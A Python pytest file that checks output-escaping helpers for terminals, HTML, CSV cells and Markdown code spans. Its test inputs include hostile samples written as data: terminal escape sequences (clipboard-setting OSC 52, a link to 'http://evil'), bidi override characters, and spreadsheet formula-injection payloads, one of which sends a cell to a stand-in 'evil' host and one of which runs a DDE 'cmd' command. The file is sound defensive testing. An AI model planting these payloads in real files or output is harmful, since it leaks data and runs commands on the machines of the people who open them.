"""The shared escapes, one medium at a time: what each lets through and what it never does."""

from __future__ import annotations

import pytest

from eligibility.rendering.escape import csv_cell, html, markdown_code, terminal, terminal_lines


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[2J", "\\x1b[2J"),  # clear screen
        ("\x1b[8mhidden", "\\x1b[8mhidden"),  # concealed text
        ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),  # OSC 52: set the clipboard
        ("\x1b]8;;http://evil\x1b\\x", "\\x1b]8;;http://evil\\x1b\\x"),  # OSC 8: a link
        ("\x9b2J", "\\x9b2J"),  # C1 CSI, a one-character escape sequence
        ("a\x7fb\x00", "a\\x7fb\\x00"),
        ("a\nb\tc\rd", "a\\nb\\tc\\rd"),
        ("\u202eelbigile", "\\u202eelbigile"),  # right-to-left override
        ("\u2066x\u2069\u200e\u200f\u061c", "\\u2066x\\u2069\\u200e\\u200f\\u061c"),
        ("\u2028", "\\u2028"),
        ("日本語 K.K. ×²³ — ✓", "日本語 K.K. ×²³ — ✓"),  # printable text is left alone
    ],
)
def test_terminal_shows_every_control_and_bidi_character_as_an_escape(raw: str, shown: str) -> None:
    assert terminal(raw) == shown


def test_terminal_lines_keeps_the_structure_and_escapes_the_rest() -> None:
    assert terminal_lines("a\x1b[2J\nb\r") == "a\\x1b[2J\nb\\r"


def test_html_escapes_markup_quotes_and_controls() -> None:
    assert html('<b a="1">\'&\x1b') == "&lt;b a=&quot;1&quot;&gt;&#x27;&amp;\\x1b"


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3.2 kJ/m³", "'-3.2 kJ/m³"),  # a figure with its unit is text, not a number
        ("-3.2", "-3.2"),  # a plain number stays a number: it cannot be a formula
        ("+5", "+5"),
        ("-1e3", "-1e3"),
        ("-", "'-"),
        ("K.K. = 1", "K.K. = 1"),  # only the first character matters
        ("a\x1bb", "a\\x1bb"),  # terminal escapes are shown, CR, LF and tab kept for quoting
        ("a\rb\nc\td", "a\rb\nc\td"),
        ("", ""),
    ],
)
def test_csv_cell_never_starts_a_formula(raw: str, cell: str) -> None:
    assert csv_cell(raw) == cell


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        ("capacity.ndfeb.energy_product", "`capacity.ndfeb.energy_product`"),
        ("plan.unknown_field:magnet.x", "`plan.unknown_field:magnet.x`"),
        ("permanent-magnets 2025-06 (in force on 2026-05-01, today)", None),
        ("a`b", "a\\`b"),  # a backtick would end the span
        ("a|b", "a\\|b"),  # GFM splits cells even inside code spans
        ("a\\", "a\\\\"),
        (" padded", "&#32;padded"),
        ("a\x1bb", "a\\\\x1bb"),
    ],
)
def test_markdown_code_spans_only_what_shows_as_it_is(raw: str, code: str | None) -> None:
    assert markdown_code(raw) == (code if code is not None else f"`{raw}`")
